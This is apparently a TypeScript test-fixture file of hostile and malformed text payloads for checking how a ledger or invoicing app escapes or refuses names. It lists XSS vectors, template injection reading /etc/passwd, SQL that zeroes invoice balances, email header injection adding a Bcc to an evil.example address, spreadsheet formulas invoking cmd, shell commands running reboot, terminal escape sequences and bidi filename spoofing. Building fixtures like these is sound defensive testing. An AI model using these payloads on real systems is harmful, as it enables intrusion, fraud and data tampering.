/**
 * What hostile or merely odd ledgers hold, beside the shared list: text that some sink would obey instead of showing. `refusedAs` is
 * the fault of the domain's rule for text; left out, the text is a legal name and must come out as itself everywhere.
 */
export interface Payload {
  readonly id: string;
  readonly text: string;
  readonly refusedAs?: 'control_char' | 'line_separator' | 'bidi_control' | 'tag_char' | 'too_many_combining' | 'empty_after_normalise';
}

const accepted = (texts: Readonly<Record<string, string>>): readonly Payload[] => Object.entries(texts).map(([id, text]) => ({ id, text }));

const refused = (why: NonNullable<Payload['refusedAs']>, texts: Readonly<Record<string, string>>): readonly Payload[] =>
  Object.entries(texts).map(([id, text]) => ({ id, text, refusedAs: why }));

export const OWN_PAYLOADS: readonly Payload[] = [
  ...accepted({
    'a closing comment': '--><img src=x onerror=alert(1)><!--',
    'a closing title and style': '</title></style><script>alert(document.domain)</script>',
    'an attribute break-out': '" onmouseover="alert(1)" style="position:fixed',
    'a single-quoted break-out': "' autofocus onfocus='alert(1)",
    'entities that must not be decoded twice': '&lt;b&gt;&amp;lt;i&amp;gt; &#60;script&#62; &#x3c;u&#x3e;',
    'an unfinished tag': 'Trading <a href="https://evil.example/',
    'a meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    'a form': '<form action="https://evil.example"><input name=iban></form>',
    'an SVG': '<svg/onload=alert(1)>',
    'CDATA and a processing instruction': '<![CDATA[x]]><?xml version="1.0"?>',
    'template arithmetic': '{{ 7*7 }} {{7*191}}',
    'a template tag': "{% include '/etc/passwd' %}{% assign amount = 'AED 0.01' %}",
    'a template loop': '{% for i in (1..9999999) %}x{% endfor %}',
    'another engine': '${7*7} #{7*7} <%= 7*7 %> [[7*7]] *{7*7}',
    'a triple-brace': '{{{ company.phone }}} {{ customer.name | upcase }}',
    'a MIME boundary': '--=_00000000000000000000000000000000--',
    'a header by its looks': 'Bcc: thief@evil.example',
    'an encoded word in base64': '=?UTF-8?B?PHNjcmlwdD4=?=',
    'two encoded words in a row': '=?UTF-8?Q?Pay?= =?UTF-8?Q?=0D=0ABcc:_x@evil.example?=',
    'an address as a name': 'thief@evil.example',
    'angle brackets as in a header': 'Accounts <thief@evil.example>',
    'a list as in a header': 'Accounts <thief@evil.example>, Boss <boss@evil.example>',
    'a group as in a header': 'Undisclosed: thief@evil.example;',
    'a quoted string that ends early': 'Accounts" <thief@evil.example>, "',
    'backslashes and quotes': String.raw`A\"B\\" <c@evil.example>`,
    'a comment in brackets': 'Accounts (thief@evil.example) LLC',
    'an SMTP dot': '.',
    'SMTP commands': '. QUIT MAIL FROM:<x@evil.example>',
    'quoted-printable look-alikes': 'A=0D=0ABcc=3A =\u200C= =3D',
    'SQL and a comment': `'; update invoices set open_minor = 0; -- /* $1 $$`,
    'a spreadsheet formula': '@SUM(1+1)*cmd|\u2019 /C calc\u2019!A0',
    'a formula behind a quote': '"=HYPERLINK(""https://evil.example"",""x"")',
    'a pipe to the shell': '$(reboot) `reboot` | reboot; & reboot',
    'prototype members': 'constructor.prototype.toString',
    'Arabic with digits and brackets': 'شركة ‎(123) <b>الخليج</b> & أبناؤه',
    'Hebrew, Greek and emoji': 'אבג Ωmega 👨‍👩‍👧‍👦 🇦🇪',
    'a name of the longest length': 'ن'.repeat(300),
    'astral letters of the longest length': '𝓐'.repeat(150),
    'a line of dashes': '-'.repeat(120),
    'a private-use character': 'Trading \uE000 LLC',
    'an interlinear annotation': 'Al\uFFF9 Noor\uFFFA x\uFFFB Trading',
  }),
  ...refused('control_char', {
    'clipboard by OSC 52': 'Noor\u001B]52;c;cm0gLXJm\u0007',
    'a screen cleared': '\u001B[2J\u001B[HPAID IN FULL',
    'a line end and a header': 'Noor\nBcc: thief@evil.example',
    'a carriage return alone': 'Noor\rPAID',
    'a tab': 'Noor\tTrading',
    'next line, C1': 'Noor\u0085Trading',
    'CSI as one byte': 'Noor\u009B31m',
    delete: 'Noor\u007F\u007F\u007F\u007FEvil',
    'an SMTP end of data': 'Noor\r\n.\r\nMAIL FROM:<x@evil.example>',
  }),
  ...refused('line_separator', { 'a paragraph separator': 'Noor\u2029Trading' }),
  ...refused('bidi_control', {
    'an override': 'Noor \u202Egnp.exe',
    'an isolate that never ends': 'Noor \u2067Trading',
    'an end without a beginning': 'Noor\u2069 Trading',
    'an embedding': '\u202BNoor\u202C',
  }),
  ...refused('tag_char', { 'tags that spell something': 'Noor\u{E0050}\u{E0061}\u{E0079}' }),
  ...refused('too_many_combining', { 'a pile of marks': `No${'\u0336'.repeat(40)}or` }),
  ...refused('empty_after_normalise', { 'nothing but fillers': '\u3164\u115F\u2060' }),
];
